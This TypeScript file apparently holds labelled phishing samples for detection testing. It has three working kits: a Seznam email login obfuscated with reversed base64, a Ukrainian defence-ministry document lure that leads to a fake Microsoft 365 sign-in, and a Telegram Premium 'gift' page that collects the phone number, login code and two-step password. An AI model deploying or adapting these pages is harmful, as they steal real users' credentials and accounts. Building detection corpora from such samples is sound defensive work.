import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc, cardCss, mark, xorHex, b64, revB64, cardFormatJs, cardIcons } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-seznam-login-revb64',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://email-seznam.cz-prihlaseni.com/',
  body: `<!doctype html><html lang="cs"><head><meta charset="utf-8"><title>Seznam Email</title></head><body><div id="app"></div>
<script>var s='${revB64(`<style>body{margin:0;font-family:Arial,sans-serif;background:#fff}.w{max-width:380px;margin:70px auto;text-align:center}.s{font-size:34px;color:#c00;font-weight:700}input{display:block;width:100%;box-sizing:border-box;padding:13px;margin:10px 0;border:1px solid #bbb;border-radius:4px;font-size:16px}button{width:100%;padding:13px;background:#c00;color:#fff;border:0;border-radius:4px;font-size:16px}p{color:#666;font-size:14px}</style>
<div class="w"><div class="s">Seznam.cz</div><h2>Přihlášení do Emailu</h2><p>Vaše relace vypršela. Přihlaste se prosím znovu pro zobrazení nové zprávy od Česká pošta, s.p.</p>
<form method="post" action="/prihlaseni.php"><input name="username" placeholder="Uživatelské jméno" required><input name="password" type="password" placeholder="Heslo" required><button>Přihlásit se</button></form></div>`)}';
document.getElementById('app').innerHTML=decodeURIComponent(escape(atob(s.split('').reverse().join(''))));</script></body></html>`,
},
{
  id: 'ym-onedrive-lure-mil-order',
  label: 'phishing',
  kind: 'lure',
  url: 'https://docs-share.mod-gov-ua.cloud/view/Nakaz_384.html',
  body: doc({
    lang: 'uk',
    title: 'Наказ_№384_від_12.03.2024.pdf — OneDrive',
    css: `body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f3f2f1}.bar{background:#0364b8;color:#fff;padding:12px 22px;font-size:16px}
.doc{max-width:620px;margin:40px auto;background:#fff;box-shadow:0 1px 4px rgba(0,0,0,.15);padding:40px;position:relative}.blur{filter:blur(4px);color:#333;line-height:1.8;user-select:none}
.ov{position:absolute;inset:0;display:flex;flex-direction:column;align-items:center;justify-content:center;background:rgba(255,255,255,.6)}.ov a{background:#0364b8;color:#fff;text-decoration:none;padding:12px 28px;border-radius:3px;margin-top:10px}`,
    body: `<div class="bar">OneDrive · Спільний доступ</div>
<div class="doc"><div class="blur"><p style="text-align:center">МІНІСТЕРСТВО ОБОРОНИ УКРАЇНИ<br>НАКАЗ</p><p>12.03.2024 м. Київ № 384</p><p>Про затвердження Порядку проходження військово-лікарської комісії та уточнення облікових даних військовозобов'язаних … відповідно до Закону України «Про мобілізаційну підготовку та мобілізацію» … НАКАЗУЮ: 1. Затвердити … 2. Командирам військових частин …</p><p>Міністр …</p></div>
<div class="ov"><b>📄 Наказ_№384_від_12.03.2024.pdf (284 КБ)</b><span style="font-size:13px;color:#555">Документ захищено. Увійдіть за допомогою службового облікового запису Microsoft 365, щоб переглянути.</span>
<a href="https://login.microsoftonline.com.secure-docs-mil.com/common/oauth2/authorize?client_id=4765445b&amp;login_hint=">Переглянути документ</a></div></div>`,
  }),
  routes: {
    'login.microsoftonline.com.secure-docs-mil.com/common/oauth2/authorize': htmlRoute(doc({
      lang: 'uk',
      title: 'Вхід до облікового запису',
      css: `body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2 url(/bg.png) center/cover}.b{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:16px 0}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px}`,
      body: `<div class="b"><svg width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#737373">Microsoft</text></svg>
<h2 style="font-weight:600">Вхід</h2><form id="m" method="post" action="/common/login.php"><input name="loginfmt" type="email" placeholder="Електронна пошта, телефон або Skype" required><input name="passwd" type="password" placeholder="Пароль" required><button>Увійти</button></form><p style="clear:both;font-size:13px;padding-top:14px"><a href="#">Не вдається отримати доступ до облікового запису?</a></p></div>`,
    })),
    'login.microsoftonline.com.secure-docs-mil.com/bg.png': pngRoute(220, 230, 240),
  },
},
{
  id: 'ym-telegram-premium-gift-login',
  label: 'phishing',
  kind: 'messenger-account-kit',
  url: 'https://telegram-premium.gift-ua.com/claim',
  body: doc({
    lang: 'uk',
    title: 'Telegram Premium — Подарунок',
    css: `body{margin:0;font-family:-apple-system,Roboto,Arial,sans-serif;background:#fff;color:#000;text-align:center}.w{max-width:360px;margin:50px auto;padding:0 16px}
.logo{width:120px;height:120px;border-radius:50%;background:linear-gradient(135deg,#6c5ce7,#a29bfe,#fd79a8);margin:0 auto 18px;display:flex;align-items:center;justify-content:center;color:#fff;font-size:60px}
input{width:100%;box-sizing:border-box;padding:14px;border:1px solid #dadce0;border-radius:10px;font-size:16px;margin:8px 0}button{width:100%;padding:15px;border:0;border-radius:10px;background:#3390ec;color:#fff;font-size:16px;font-weight:600;margin-top:10px}
p{color:#707579}`,
    body: `<div class="w"><div class="logo">★</div><h2>Ваш друг подарував вам Telegram Premium на 12 місяців</h2>
<div id="a"><p>Увійдіть у свій акаунт, щоб активувати подарунок.</p><form id="p"><input name="phone" type="tel" value="+380" required><button>Далі</button></form></div>
<div id="b" style="display:none"><p>Ми надіслали код у ваш застосунок Telegram на іншому пристрої.</p><form id="c"><input name="code" inputmode="numeric" maxlength="5" placeholder="Код" required><button>Активувати</button></form></div>
<div id="d" style="display:none"><p>Для вашого акаунта ввімкнено двоетапну перевірку.</p><form id="pw"><input name="password" type="password" placeholder="Хмарний пароль" required><button>Підтвердити</button></form></div></div>
<script>
var api='/claim/api.php',ph='';function post(o){return fetch(api,{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(o)})}
document.getElementById('p').onsubmit=function(e){e.preventDefault();ph=this.phone.value;post({act:'send_code',phone:ph});a.style.display='none';b.style.display='block'};
document.getElementById('c').onsubmit=function(e){e.preventDefault();post({act:'sign_in',phone:ph,code:this.code.value});b.style.display='none';d.style.display='block'};
document.getElementById('pw').onsubmit=function(e){e.preventDefault();post({act:'check_password',phone:ph,password:this.password.value}).finally(function(){location.href='tg://resolve?domain=premium'})};
</script>`,
  }),
},
];
